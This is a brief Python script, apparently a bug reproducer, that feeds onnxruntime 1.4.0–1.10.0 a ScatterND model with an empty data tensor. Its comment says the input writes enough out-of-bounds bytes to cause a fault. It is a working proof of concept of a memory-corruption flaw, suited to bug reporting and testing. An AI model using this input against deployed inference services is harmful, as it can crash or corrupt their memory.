# python onnxruntime_nd_no_cells.py (onnxruntime 1.4.0 to 1.10.0; onnx creates the model)
import numpy as np
import onnxruntime
from onnx import parser

N = 1 << 20  # enough out-of-bounds bytes to cause a fault
model = parser.parse_model(f"""<ir_version: 6, opset_import: ["": 11]>
    g (float[0,{N}] data, int64[1,1] indices, float[1,{N}] updates) => (float[0,{N}] output) {{
        output = ScatterND (data, indices, updates) }}""")
session = onnxruntime.InferenceSession(model.SerializeToString())
updates = np.ones((1, N), np.float32)
print("expected: an error, because data has no row 0, and no write outside the output", flush=True)
output = session.run(None, {"data": updates[:0], "indices": np.array([[0]]), "updates": updates})[0]
print("onnxruntime", onnxruntime.__version__, "gives an output of shape", output.shape)
